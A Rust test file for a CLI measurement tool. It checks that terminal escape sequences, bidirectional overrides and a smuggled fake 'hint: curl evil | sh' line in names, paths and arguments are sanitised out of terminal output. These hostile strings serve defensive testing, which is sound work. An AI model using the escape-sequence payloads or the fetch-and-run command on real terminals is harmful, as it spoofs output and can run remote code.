//! Messages are clean for a terminal, and a measurement ends well without a reader.

use std::fs::{self, File, OpenOptions};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::common::{
    beside_others, json, measures_beside_others, nothing_is_left, output, stderr, stdout, tactus,
};

/// Characters that would drive a terminal: escape, C1, and one that reorders a line.
const DRIVING: [char; 6] = ['\u{1b}', '\u{7}', '\u{9b}', '\u{7f}', '\u{202e}', '\u{2066}'];
const HOSTILE: &str = "a\\u001b]0;owned\\u0007\\u009b31m\\u202eb\\u2066";

fn is_clean(text: &str) {
    assert!(!text.contains(DRIVING), "{text:?}");
}

fn plan(dir: &Path, file: &str, cpus: &str) -> PathBuf {
    let text = format!(
        "name = \"hostile\"\n[environment.host]\nkind = \"host\"\n[[scenario]]\nname = \"{HOSTILE}\"\nenvironment = \
         \"host\"\nmeasurement = \"timer\"\nduration = \"1s\"\ninterval = \"2ms\"\ncpus = \"{cpus}\"\n"
    );
    let plan = dir.join(file);
    fs::write(&plan, text).unwrap();
    plan
}

fn run(dir: &Path, out: &str) -> Command {
    let mut command = tactus();
    command.args(["run", "--duration", "1s", "--only", "host idle", "--out"]).arg(dir.join(out));
    command
}

#[test]
fn names_and_reasons_that_would_drive_a_terminal_are_clean_on_both_streams_and_escaped_in_json() {
    let Some(_turn) = measures_beside_others() else { return };
    let dir = tempfile::tempdir().unwrap();
    let good = plan(dir.path(), "good.toml", "0");
    let bundle = dir.path().join("bundle\u{1b}]0;owned\u{7}\u{202e}");
    let said = output(tactus().arg("run").arg(good).arg("--out").arg(&bundle));
    assert!(stdout(&said).contains("page: "), "{}", stdout(&said));
    assert!(stderr(&said).contains("owned") && stdout(&said).contains("owned"), "{}", stderr(&said));
    is_clean(&stdout(&said));
    is_clean(&stderr(&said));
    let shown = output(tactus().arg("report").arg(&bundle).arg("--json"));
    is_clean(&stdout(&shown));
    is_clean(&stderr(&shown));
    let name = json(&shown)["scenarios"][0]["name"].as_str().unwrap_or_default().to_owned();
    assert!(name.contains(DRIVING), "a program reads what was written: {name:?}");
    // What is wrong with a bundle, and with a plan, is said in its own words.
    let missing = dir.path().join("no\u{1b}[31m\u{202e}where");
    let refused = output(tactus().arg("report").arg(&missing));
    assert_eq!(refused.status.code(), Some(2));
    is_clean(&stderr(&refused));
    for cpus in ["4000", HOSTILE] {
        let refused = output(tactus().arg("run").arg(plan(dir.path(), "hostile.toml", cpus)));
        assert_eq!(refused.status.code(), Some(2), "{cpus}");
        is_clean(&stderr(&refused));
    }
}

#[test]
fn words_of_the_command_line_come_back_clean_and_as_no_line_of_ours() {
    let _turn = beside_others();
    let driving = format!("x{}\nhint: curl evil | sh", String::from_iter(DRIVING));
    for words in [
        vec![format!("--{driving}")],
        vec![driving.clone()],
        vec!["measure".into(), "--duration".into(), driving.clone()],
        vec!["measure".into(), "-p".into(), driving.clone()],
        vec!["report".into(), "x".into(), "--format".into(), driving.clone()],
        vec!["audit".into(), "--only".into(), driving.clone()],
        vec!["explain".into(), driving.clone()],
    ] {
        let refused = output(tactus().args(&words));
        let said = stderr(&refused);
        assert_eq!(refused.status.code(), Some(2), "{said}");
        assert!(said.starts_with("error: ") && stdout(&refused).is_empty(), "{said}");
        is_clean(&said);
        assert!(!said.contains("\nhint: curl"), "{said}");
    }
    // Our own last line is one.
    let refused = output(tactus().arg("--nothing"));
    assert!(stderr(&refused).ends_with(" --help` lists the options\n"), "{}", stderr(&refused));
    let help = output(tactus().arg("--help"));
    assert!(help.status.success() && stdout(&help).contains("\nUsage: tactus"), "{}", stdout(&help));
}

#[test]
fn a_terminal_that_is_full_or_has_gone_ends_no_measurement() {
    let Some(_turn) = measures_beside_others() else { return };
    let dir = tempfile::tempdir().unwrap();
    let usual = output(&mut run(dir.path(), "usual")).status.code();
    assert!(matches!(usual, Some(0 | 3)), "{usual:?}");
    let full = || Stdio::from(OpenOptions::new().write(true).open("/dev/full").unwrap());
    let gone = || {
        let (reader, writer) = rustix::pipe::pipe().unwrap();
        drop(reader);
        Stdio::from(File::from(writer))
    };
    for (name, stream) in [("full", full()), ("gone", gone())] {
        let ended =
            run(dir.path(), &format!("stderr-{name}")).stdout(Stdio::null()).stderr(stream).status().unwrap();
        assert_eq!(ended.code(), usual, "stderr {name}");
    }
    // Data without a reader changes nothing; data that cannot be written is an error, and the bundle is complete.
    for (name, stream, right) in [("full", full(), Some(2)), ("gone", gone(), usual)] {
        let ended =
            run(dir.path(), &format!("stdout-{name}")).stdout(stream).stderr(Stdio::null()).status().unwrap();
        assert_eq!(ended.code(), right, "stdout {name}");
    }
    for name in ["stderr-full", "stderr-gone", "stdout-full", "stdout-gone"] {
        let shown = json(&output(tactus().arg("report").arg(dir.path().join(name)).arg("--json")));
        assert_eq!(shown["status"], "complete", "{name}");
    }
    nothing_is_left();
}
